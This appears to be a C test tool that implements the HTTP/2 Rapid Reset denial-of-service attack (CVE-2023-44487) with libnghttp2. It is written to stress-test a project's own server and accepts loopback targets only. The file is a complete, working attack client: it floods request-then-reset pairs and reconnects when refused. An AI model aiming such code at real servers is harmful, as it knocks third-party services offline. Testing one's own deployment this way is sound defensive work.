/*
 * tests/abuse/rapid_reset.c: an HTTP/2 Rapid Reset client (CVE-2023-44487) on libnghttp2's client
 * API, to measure how our own deployment holds up. It talks to loopback addresses only.
 *
 * Each connection loops, at full speed, for --seconds: submit a request, serialize it (so the
 * HEADERS frame is really written: nghttp2 cancels a request whose HEADERS is still queued when
 * the RST_STREAM is submitted), submit RST_STREAM(CANCEL) for it, serialize that. The stream is
 * closed on our side as soon as the RST_STREAM is serialized, so it never counts against the
 * server's SETTINGS_MAX_CONCURRENT_STREAMS: a server that runs the request anyway does unbounded
 * work per connection. Responses that still arrive are read (and dropped) so the connection stays
 * alive; a connection the server closes or sends GOAWAY on is opened again.
 *
 * Transport: h2c with prior knowledge, or TLS with ALPN h2 (--tls; the certificate is not checked).
 *
 * Output: one line per second with the streams opened (HEADERS written), reset (RST_STREAM
 * written), answered (response HEADERS received on a stream still open: 0 while the resets win)
 * and refused (RST_STREAM received), then a summary line of key=value pairs for run.sh:
 *   rapid_reset: seconds=20.0 connections=1 opened=... reset=... answered=... refused=...
 *                reconnects=... goaways=... connect_errors=... opened_per_s=...
 * A connection that fails or is refused is retried (connect_errors), as an attacker would.
 *
 * Build (tests/abuse/run.sh does it): cc -O2 rapid_reset.c $(pkg-config --cflags --libs libnghttp2 openssl)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define RR_MAX_CONNS 64
#define RR_MAX_PATHS 32
#define RR_OUT_CAP (256 * 1024) /* serialized frames waiting for the socket */
#define RR_OUT_HIGH (64 * 1024) /* stop submitting above this many unsent bytes */

typedef struct rr_stats {
    uint64_t opened, reset, answered, refused, reconnects, goaways, connect_errors;
} rr_stats_t;

typedef struct rr_conn {
    int fd;
    SSL *ssl;
    nghttp2_session *session;
    char out[RR_OUT_CAP];
    size_t out_len;
    int dead; /* reconnect at the next turn */
    int path_next;
} rr_conn_t;

static struct {
    const char *host, *source;
    unsigned port;
    int tls;
    double seconds;
    unsigned conns, batch;
    const char *paths[RR_MAX_PATHS];
    unsigned path_count;
    char authority[300];
    SSL_CTX *ssl_ctx;
    rr_stats_t stats;
} g = {.host = "127.0.0.1", .port = 8080, .seconds = 10, .conns = 1, .batch = 64};

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void usage(FILE *out)
{
    fprintf(out, "usage: rapid_reset [--host 127.0.0.1] [--port 8080] [--tls] [--seconds 10] [--connections 1]\n"
                 "                   [--batch 64] [--source ADDR] [--path PATH]...\n"
                 "HTTP/2 Rapid Reset (CVE-2023-44487) against a loopback server: submit a request and reset it at\n"
                 "once, in a loop, at full speed; prints streams opened/reset per second. Loopback targets only.\n");
}

/* Only loopback: this tool exists to test our own server on this machine. */
static int is_loopback(const struct sockaddr *sa)
{
    if (sa->sa_family == AF_INET)
        return (ntohl(((const struct sockaddr_in *)sa)->sin_addr.s_addr) >> 24) == 127;
    if (sa->sa_family == AF_INET6)
        return IN6_IS_ADDR_LOOPBACK(&((const struct sockaddr_in6 *)sa)->sin6_addr);
    return 0;
}

/* ------------------------------------------------------------------ transport */

static ssize_t conn_write(rr_conn_t *c, const void *buf, size_t len)
{
    if (c->ssl == NULL)
        return send(c->fd, buf, len, MSG_NOSIGNAL);
    int n = SSL_write(c->ssl, buf, (int)len);
    if (n > 0)
        return n;
    int e = SSL_get_error(c->ssl, n);
    errno = (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) ? EAGAIN : EPIPE;
    return -1;
}

static ssize_t conn_read(rr_conn_t *c, void *buf, size_t len)
{
    if (c->ssl == NULL)
        return recv(c->fd, buf, len, 0);
    int n = SSL_read(c->ssl, buf, (int)len);
    if (n > 0)
        return n;
    int e = SSL_get_error(c->ssl, n);
    if (e == SSL_ERROR_ZERO_RETURN)
        return 0;
    errno = (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) ? EAGAIN : ECONNRESET;
    return -1;
}

/* ------------------------------------------------------------------ nghttp2 callbacks */

static ssize_t on_send(nghttp2_session *s, const uint8_t *data, size_t len, int flags, void *user)
{
    (void)s;
    (void)flags;
    rr_conn_t *c = user;
    if (c->out_len + len > RR_OUT_CAP)
        return NGHTTP2_ERR_WOULDBLOCK;
    memcpy(c->out + c->out_len, data, len);
    c->out_len += len;
    return (ssize_t)len;
}

static int on_frame_send(nghttp2_session *s, const nghttp2_frame *f, void *user)
{
    (void)s;
    (void)user;
    if (f->hd.type == NGHTTP2_HEADERS)
        g.stats.opened++;
    else if (f->hd.type == NGHTTP2_RST_STREAM)
        g.stats.reset++;
    return 0;
}

static int on_frame_recv(nghttp2_session *s, const nghttp2_frame *f, void *user)
{
    (void)s;
    rr_conn_t *c = user;
    if (f->hd.type == NGHTTP2_HEADERS && f->headers.cat == NGHTTP2_HCAT_RESPONSE)
        g.stats.answered++;
    else if (f->hd.type == NGHTTP2_RST_STREAM)
        g.stats.refused++;
    else if (f->hd.type == NGHTTP2_GOAWAY) {
        g.stats.goaways++;
        c->dead = 1;
    }
    return 0;
}

/* Response HEADERS and DATA of streams we already reset land here or nowhere: nothing to keep. */
static int on_data_chunk(nghttp2_session *s, uint8_t flags, int32_t id, const uint8_t *data, size_t len, void *user)
{
    (void)s, (void)flags, (void)id, (void)data, (void)len, (void)user;
    return 0;
}

/* ------------------------------------------------------------------ connections */

static void conn_close(rr_conn_t *c)
{
    if (c->session != NULL)
        nghttp2_session_del(c->session);
    if (c->ssl != NULL)
        SSL_free(c->ssl);
    if (c->fd >= 0)
        close(c->fd);
    c->session = NULL;
    c->ssl = NULL;
    c->fd = -1;
    c->out_len = 0;
    c->dead = 0;
}

static int conn_open(rr_conn_t *c, const struct addrinfo *ai, const struct addrinfo *src)
{
    c->fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (c->fd < 0)
        return -1;
    int on = 1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    struct timeval tv = {5, 0}; /* bounds the blocking connect and TLS handshake */
    setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    if (src != NULL && bind(c->fd, src->ai_addr, src->ai_addrlen) != 0)
        return -1;
    if (connect(c->fd, ai->ai_addr, ai->ai_addrlen) != 0)
        return -1;
    if (g.tls) {
        c->ssl = SSL_new(g.ssl_ctx);
        SSL_set_fd(c->ssl, c->fd);
        SSL_set_tlsext_host_name(c->ssl, "localhost");
        if (SSL_connect(c->ssl) != 1)
            return -1;
        const unsigned char *alpn = NULL;
        unsigned alpn_len = 0;
        SSL_get0_alpn_selected(c->ssl, &alpn, &alpn_len);
        if (alpn_len != 2 || memcmp(alpn, "h2", 2) != 0) {
            fprintf(stderr, "rapid_reset: the server did not negotiate h2 over TLS\n");
            exit(2);
        }
    }
    fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);

    nghttp2_session_callbacks *cb;
    nghttp2_session_callbacks_new(&cb);
    nghttp2_session_callbacks_set_send_callback(cb, on_send);
    nghttp2_session_callbacks_set_on_frame_send_callback(cb, on_frame_send);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cb, on_frame_recv);
    nghttp2_session_callbacks_set_on_data_chunk_recv_callback(cb, on_data_chunk);
    nghttp2_option *opt;
    nghttp2_option_new(&opt);
    nghttp2_option_set_no_closed_streams(opt, 1); /* a million closed streams must not cost memory */
    int rv = nghttp2_session_client_new2(&c->session, cb, c, opt);
    nghttp2_option_del(opt);
    nghttp2_session_callbacks_del(cb);
    if (rv != 0)
        return -1;
    nghttp2_settings_entry iv[] = {{NGHTTP2_SETTINGS_ENABLE_PUSH, 0}, {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 65535}};
    nghttp2_submit_settings(c->session, NGHTTP2_FLAG_NONE, iv, 2);
    return nghttp2_session_send(c->session) == 0 ? 0 : -1;
}

#define NV(n, v)                                                                                                                   \
    {                                                                                                                              \
        (uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), NGHTTP2_NV_FLAG_NONE                                             \
    }

/* Submits up to g.batch request+reset pairs while the unsent output is small. */
static int conn_attack(rr_conn_t *c)
{
    for (unsigned i = 0; i < g.batch && c->out_len < RR_OUT_HIGH; i++) {
        const char *path = g.paths[c->path_next++ % g.path_count];
        nghttp2_nv hdrs[] = {NV(":method", "GET"), NV(":scheme", g.tls ? "https" : "http"), NV(":authority", g.authority),
                             NV(":path", path), NV("accept", "application/json")};
        int32_t id = nghttp2_submit_request(c->session, NULL, hdrs, sizeof(hdrs) / sizeof(hdrs[0]), NULL, NULL);
        if (id < 0)
            return id == NGHTTP2_ERR_STREAM_ID_NOT_AVAILABLE ? -1 : 0; /* out of ids: reconnect */
        if (nghttp2_session_send(c->session) != 0)
            return -1;
        if (nghttp2_submit_rst_stream(c->session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL) != 0)
            return -1;
        if (nghttp2_session_send(c->session) != 0)
            return -1;
    }
    return 0;
}

static int conn_flush(rr_conn_t *c)
{
    size_t off = 0;
    while (off < c->out_len) {
        ssize_t n = conn_write(c, c->out + off, c->out_len - off);
        if (n < 0) {
            if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)
                break;
            return -1;
        }
        off += (size_t)n;
    }
    memmove(c->out, c->out + off, c->out_len - off);
    c->out_len -= off;
    return 0;
}

static int conn_drain(rr_conn_t *c)
{
    static uint8_t buf[64 * 1024];
    for (int rounds = 0; rounds < 8; rounds++) {
        ssize_t n = conn_read(c, buf, sizeof(buf));
        if (n == 0)
            return -1;
        if (n < 0)
            return (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) ? 0 : -1;
        if (nghttp2_session_mem_recv(c->session, buf, (size_t)n) < 0)
            return -1;
    }
    return 0;
}

/* ------------------------------------------------------------------ main */

static int parse_args(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--help") == 0) {
            usage(stdout);
            exit(0);
        } else if (strcmp(a, "--tls") == 0) {
            g.tls = 1;
            continue;
        }
        if (v == NULL) {
            usage(stderr);
            return -1;
        }
        i++;
        if (strcmp(a, "--host") == 0)
            g.host = v;
        else if (strcmp(a, "--port") == 0)
            g.port = (unsigned)atoi(v);
        else if (strcmp(a, "--seconds") == 0)
            g.seconds = atof(v);
        else if (strcmp(a, "--connections") == 0)
            g.conns = (unsigned)atoi(v);
        else if (strcmp(a, "--batch") == 0)
            g.batch = (unsigned)atoi(v);
        else if (strcmp(a, "--source") == 0)
            g.source = v;
        else if (strcmp(a, "--path") == 0 && g.path_count < RR_MAX_PATHS)
            g.paths[g.path_count++] = v;
        else {
            usage(stderr);
            return -1;
        }
    }
    if (g.port == 0 || g.port > 65535 || g.seconds <= 0 || g.seconds > 600 || g.conns < 1 || g.conns > RR_MAX_CONNS ||
        g.batch < 1) {
        fprintf(stderr, "rapid_reset: --port 1-65535, --seconds 0-600, --connections 1-%d, --batch >= 1\n", RR_MAX_CONNS);
        return -1;
    }
    if (g.path_count == 0)
        g.paths[g.path_count++] = "/healthz";
    return 0;
}

static struct addrinfo *resolve(const char *host, unsigned port)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST | AI_NUMERICSERV}, *res;
    char portstr[8];
    snprintf(portstr, sizeof(portstr), "%u", port);
    if (getaddrinfo(host, portstr, &hints, &res) != 0)
        return NULL;
    return res;
}

int main(int argc, char **argv)
{
    if (parse_args(argc, argv) != 0)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    struct addrinfo *ai = resolve(g.host, g.port), *src = NULL;
    if (ai == NULL || !is_loopback(ai->ai_addr)) {
        fprintf(stderr, "rapid_reset: --host must be a numeric loopback address (127.0.0.0/8 or ::1)\n");
        return 2;
    }
    if (g.source != NULL && ((src = resolve(g.source, 0)) == NULL || !is_loopback(src->ai_addr))) {
        fprintf(stderr, "rapid_reset: --source must be a numeric loopback address\n");
        return 2;
    }
    snprintf(g.authority, sizeof(g.authority), ai->ai_family == AF_INET6 ? "[%s]:%u" : "%s:%u", g.host, g.port);
    if (g.tls) {
        g.ssl_ctx = SSL_CTX_new(TLS_client_method());
        SSL_CTX_set_verify(g.ssl_ctx, SSL_VERIFY_NONE, NULL);
        SSL_CTX_set_mode(g.ssl_ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
        static const unsigned char alpn[] = "\x02h2";
        SSL_CTX_set_alpn_protos(g.ssl_ctx, alpn, sizeof(alpn) - 1);
    }

    /* Connections are opened in the loop, and opened again whenever they fail or are closed: a
     * proxy that refuses this client shows up as connect_errors, not as the end of the attack. */
    static rr_conn_t conns[RR_MAX_CONNS];
    for (unsigned i = 0; i < g.conns; i++)
        conns[i].fd = -1;

    double start = now_s(), end = start + g.seconds, next_report = start + 1;
    rr_stats_t last = g.stats;
    struct pollfd pfd[RR_MAX_CONNS];
    while (now_s() < end) {
        for (unsigned i = 0; i < g.conns; i++) {
            rr_conn_t *c = &conns[i];
            if (c->session == NULL || c->dead) {
                if (c->session != NULL)
                    g.stats.reconnects++;
                conn_close(c);
                if (conn_open(c, ai, src) != 0) {
                    if (g.stats.connect_errors++ == 0)
                        fprintf(stderr, "rapid_reset: cannot connect to %s: %s; retrying\n", g.authority, strerror(errno));
                    conn_close(c);
                    pfd[i].fd = -1;
                    usleep(1000); /* refused: try again, but do not spin on it */
                    continue;
                }
            }
            if (conn_attack(c) != 0 || conn_flush(c) != 0 || conn_drain(c) != 0 || nghttp2_session_send(c->session) != 0)
                c->dead = 1;
            pfd[i].fd = c->fd;
            pfd[i].events = POLLIN | (c->out_len > RR_OUT_HIGH ? POLLOUT : 0);
        }
        /* Block only when every connection's output is backed up: otherwise keep submitting. */
        int all_full = 1;
        for (unsigned i = 0; i < g.conns; i++)
            if (conns[i].fd >= 0 && conns[i].out_len <= RR_OUT_HIGH)
                all_full = 0;
        if (all_full)
            poll(pfd, g.conns, 10);
        double t = now_s();
        if (t >= next_report) {
            printf("t=%.1fs opened/s=%llu reset/s=%llu answered/s=%llu refused/s=%llu reconnects=%llu\n", t - start,
                   (unsigned long long)(g.stats.opened - last.opened), (unsigned long long)(g.stats.reset - last.reset),
                   (unsigned long long)(g.stats.answered - last.answered), (unsigned long long)(g.stats.refused - last.refused),
                   (unsigned long long)g.stats.reconnects);
            fflush(stdout);
            last = g.stats;
            next_report += 1;
        }
    }
    double elapsed = now_s() - start;
    printf("rapid_reset: seconds=%.1f connections=%u opened=%llu reset=%llu answered=%llu refused=%llu reconnects=%llu "
           "goaways=%llu connect_errors=%llu opened_per_s=%.0f\n",
           elapsed, g.conns, (unsigned long long)g.stats.opened, (unsigned long long)g.stats.reset,
           (unsigned long long)g.stats.answered, (unsigned long long)g.stats.refused, (unsigned long long)g.stats.reconnects,
           (unsigned long long)g.stats.goaways, (unsigned long long)g.stats.connect_errors, g.stats.opened / elapsed);
    for (unsigned i = 0; i < g.conns; i++)
        conn_close(&conns[i]);
    freeaddrinfo(ai);
    if (src != NULL)
        freeaddrinfo(src);
    return 0;
}
